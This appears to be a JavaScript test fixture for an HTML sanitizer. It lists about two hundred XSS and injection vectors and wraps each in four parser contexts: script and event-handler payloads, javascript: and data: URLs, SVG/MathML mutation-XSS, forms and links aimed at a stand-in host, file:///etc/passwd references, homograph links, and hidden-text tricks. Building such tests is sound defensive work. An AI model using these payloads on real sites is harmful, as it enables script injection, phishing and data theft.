// Bodies that try to run, to load, or to hide something. Each vector stands alone and in three settings that change how a parser meets it. What it
// would do when it worked: set `globalThis.ran`, or ask for https://ond.example/ or /ond of this origin.
const run = 'globalThis.ran=1'
const away = 'https://ond.example/x'

const elements = [
  `<script>${run}</script>`, `<SCRIPT SRC=${away}></SCRIPT>`, `<script type=module>${run}</script>`, `<scr<script>ipt>${run}</scr</script>ipt>`, `<script/x>${run}</script>`,
  `<script\n>${run}</script\n>`, `<script>/*`, `<noscript><p title="</noscript><img src=x onerror=${run}>">`, `<iframe src=javascript:${run}></iframe>`, `<iframe srcdoc="&lt;script&gt;parent.${run}&lt;/script&gt;"></iframe>`,
  `<iframe src=${away}></iframe>`, `<frameset><frame src=javascript:${run}></frameset>`, `<object data=${away}></object>`, `<object data="data:text/html,<script>${run}</script>"></object>`, `<embed src=${away}>`,
  `<applet code=x archive=${away}></applet>`, `<portal src=${away}></portal>`, `<fencedframe src=${away}></fencedframe>`, `<link rel=stylesheet href=${away}>`, `<link rel=preload as=image href=${away}>`,
  `<link rel=prefetch href=${away}>`, `<link rel=dns-prefetch href=//ond.example>`, `<link rel=import href=${away}>`, `<meta http-equiv=refresh content="0;url=${away}">`, `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<meta http-equiv=set-cookie content=a=b>`, `<meta http-equiv=content-security-policy content="script-src *">`, `<base href=https://ond.example/>`, `<base target=_top>`, `<style>@import url(${away})</style>`,
  `<style>*{background:url(${away})}</style>`, `<style>body{display:none}p{position:fixed;inset:0}</style>`, `<style><img src=x onerror=${run}></style>`, `<form action=${away}><input name=a><button>Send</button></form>`, `<form id=f></form><button form=f formaction=javascript:${run}>Tryk</button>`,
  `<input autofocus onfocus=${run}>`, `<input type=image src=${away}>`, `<isindex action=javascript:${run}>`, `<select autofocus onfocus=${run}><option>a</select>`, `<textarea autofocus onfocus=${run}></textarea>`,
  `<keygen autofocus onfocus=${run}>`, `<details open ontoggle=${run}><summary>a</summary>b</details>`, `<dialog open onclose=${run}>a</dialog>`, `<marquee onstart=${run}>a</marquee>`, `<bgsound src=${away}>`,
]
const media = [
  `<img src=x onerror=${run}>`, `<img src=${away}>`, `<img srcset="${away} 1x">`, `<img src="javascript:${run}">`, `<img src=data:image/svg+xml,<svg/onload=${run}>>`,
  `<img lowsrc=${away} dynsrc=${away}>`, `<image href=${away}>`, `<picture><source srcset=${away}><img></picture>`, `<video src=${away} poster=${away} autoplay></video>`, `<video><source onerror=${run}></video>`,
  `<audio src=${away} autoplay onerror=${run}></audio>`, `<track src=${away}>`, `<body background=${away} onload=${run}>`, `<table background=${away}><tr><td>a</table>`, `<p style="background:url(${away})">a`,
  `<p style="background:url('javascript:${run}')">a`, `<p style="width:expression(${run})">a`, `<p style="-moz-binding:url(${away})">a`, `<p style="behavior:url(${away})">a`, `<div style="position:fixed;top:0;left:0;width:9999px;height:9999px;background:red">Din session er udløbet</div>`,
]
const foreign = [
  `<svg onload=${run}>`, `<svg><script>${run}</script></svg>`, `<svg><script href=${away} /></svg>`, `<svg><a xlink:href="javascript:${run}"><text y=20>Tryk</text></a></svg>`, `<svg><image href=${away} /></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${run}</script></svg>#x" /></svg>`, `<svg><animate attributeName=href values="javascript:${run}" /></svg>`, `<svg><set attributeName=onmouseover to=${run} /></svg>`, `<svg><foreignObject><img src=x onerror=${run}></foreignObject></svg>`, `<svg><style>@import '${away}'</style></svg>`,
  `<svg><title><img src=x onerror=${run}></title></svg>`, `<svg><desc><script>${run}</script></desc></svg>`, `<svg></p><style><a id="</style><img src=x onerror=${run}>">`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`, `<math><mi xlink:href="data:x,<script>${run}</script>">a</mi></math>`,
  `<math href="javascript:${run}">a</math>`, `<math><annotation-xml encoding="text/html"><script>${run}</script></annotation-xml></math>`, `<math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${run} src=x>">`, `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`, `<svg><p><style><g title="</style><img src=x onerror=${run}>">`,
]
const links = [
  `<a href="javascript:${run}">Tryk</a>`, `<a href="JaVaScRiPt:${run}">Tryk</a>`, `<a href="java\tscript:${run}">Tryk</a>`, `<a href="java&#10;script:${run}">Tryk</a>`, `<a href="&#1;javascript:${run}">Tryk</a>`,
  `<a href=" javascript:${run}">Tryk</a>`, `<a href="javascript&colon;${run}">Tryk</a>`, `<a href="&#x6A;avascript:${run}">Tryk</a>`, `<a href="data:text/html,<script>${run}</script>">Tryk</a>`, `<a href="vbscript:${run}">Tryk</a>`,
  `<a href="blob:null/x">Tryk</a>`, `<a href="filesystem:null/x">Tryk</a>`, `<a href="view-source:${away}">Tryk</a>`, `<a href="file:///etc/passwd">Tryk</a>`, `<a href="intent://x#Intent;scheme=x;end">Tryk</a>`,
  `<a href="//ond.example/x">Tryk</a>`, `<a href="http://borger.dk@ond.example/">borger.dk</a>`, `<a href="https://borger.dk\\@ond.example/">borger.dk</a>`, `<a href="https://xn--brger-vua.dk/">børger.dk</a>`, `<a href=${away} ping=${away} target=_blank onclick=${run}>Tryk</a>`,
  `<a href="mailto:a@b.dk?bcc=alle@ond.example&attach=/etc/passwd">Skriv</a>`, `<a href="tel:*21*12345678%23">Ring</a>`, `<a href="sms:1234?body=JA">Skriv</a>`, `<map name=m><area href=javascript:${run} shape=default></map><img usemap=#m>`, `<a id=session name=core href=#>Tryk</a>`,
]
const attributes = ['onclick', 'onmouseover', 'onpointerrawupdate', 'onanimationstart', 'ontransitionend', 'onscrollend', 'onbeforematch', 'oncontentvisibilityautostatechange', 'onfocusin', 'onwheel', 'onpaste', 'onbeforeinput']
  .map(name => `<p ${name}=${run} tabindex=0 style="animation:a 1s">a</p>`)
const shapes = [
  `<template><script>${run}</script></template>`, `<template shadowrootmode=open><script>${run}</script><p>I skyggen</p></template>`, `<slot onslotchange=${run}></slot>`, `<div is=memo-box></div>`, `<memo-box platform=${away}></memo-box>`,
  `<plaintext>`, `<xmp><script>${run}</script></xmp>`, `<listing>&lt;script&gt;${run}&lt;/script&gt;</listing>`, `<noembed><script>${run}</script></noembed>`, `<noframes><script>${run}</script></noframes>`,
  `<textarea></textarea><script>${run}</script>`, `<title></title><script>${run}</script>`, `<!--><script>${run}</script>-->`, `<!--!><img src=x onerror=${run}>`, `<!--[if IE]><script>${run}</script><![endif]-->`,
  `<![CDATA[<script>${run}</script>]]>`, `<?xml-stylesheet href="javascript:${run}"?>`, `<?php echo 1 ?>`, `</p/x><img src=x onerror=${run}>`, `<img src="x\` \`><script>${run}</script>"\` \`>`,
  `<img """><script>${run}</script>">`, `<a "onclick=${run}">a</a>`, `<p =onclick=${run}>a`, `<p\0onclick=${run}>a`, `<x onclick=${run}>a</x>`,
  `${'<div>'.repeat(600)}dybt${'</div>'.repeat(600)}`, `${'<b>'.repeat(400)}fed`, `<table>${'<tr><td>a'.repeat(300)}</table>`, `<table><tr><td colspan=65534 rowspan=65534>a</table>`, `<ol start=99999999999><li value=-99999999999>a</ol>`,
  `&#0;&#xD800;&#x110000;&#128;&notit;&amp`, `&lt;script&gt;${run}&lt;/script&gt;`, `&amp;lt;script&amp;gt;${run}`, `+ADw-script+AD4-${run}+ADw-/script+AD4-`, `\u202Eetsev ksnad\u202C`,
  `usyn\u200Bligt\u200D\uFEFF\u00AD`, `\u2066skjult\u2069`, `kr 1\u00000.000`, `<span style="display:none">skjult tekst</span><span hidden>og denne</span>`, `<p style="font-size:0;color:white">hvidt på hvidt`,
]

const vectors = [...elements, ...media, ...foreign, ...links, ...attributes, ...shapes]
// Where it stands. A vector may swallow what follows into itself; then that is shown as its text.
const settings = {
  alone: vector => `<p>FØR</p>${vector}<p>EFTER</p>`,
  table: vector => `<p>FØR</p><table><tr><td>${vector}</td><td>celle</td></tr></table><p>EFTER</p>`,
  unclosed: vector => `<p>FØR<b><i><a href="https://borger.dk/">${vector}<ul><li>EFTER`,
  attribute: vector => `<p>FØR</p><p title='${vector.replaceAll("'", '')}' data-x="${vector.replaceAll('"', '')}">EFTER</p>`,
}

export const bodies = vectors.flatMap((vector, number) => Object.entries(settings).map(([setting, put]) => ({ name: `${number} ${setting}`, vector, html: put(vector) })))
